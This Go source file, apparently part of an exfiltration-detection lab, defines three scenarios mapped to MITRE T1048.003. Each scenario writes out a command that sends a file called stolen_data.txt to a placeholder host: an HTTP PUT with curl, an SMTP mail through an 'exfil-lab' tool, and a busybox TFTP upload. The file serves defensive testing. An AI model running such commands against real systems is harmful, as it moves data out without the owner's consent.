package lab

// others steal the file by what is seldom thought of.
func others() []Scenario {
	return []Scenario{
		{
			Name:      "six_put",
			Summary:   "HTTP PUT over IPv6",
			Command:   `curl --silent --fail --upload-file stolen_data.txt http://six.example/upload`,
			Technique: "T1048.003", Process: "/usr/bin/curl", Declared: true,
		},
		{
			Name:      "mail",
			Summary:   "a mail with the file in it, by SMTP in cleartext",
			Command:   `exfil-lab attack --to drop.example:25 --file stolen_data.txt mail`,
			Technique: "T1048.003", Process: "/usr/bin/exfil-lab", Mailed: true,
		},
		{
			Name:      "tftp_put",
			Summary:   "TFTP put, block by block over UDP",
			Command:   `busybox tftp -b 8192 -p -l stolen_data.txt -r stolen_data.txt drop.example`,
			Technique: "T1048.003", Process: "/usr/bin/busybox",
		},
	}
}
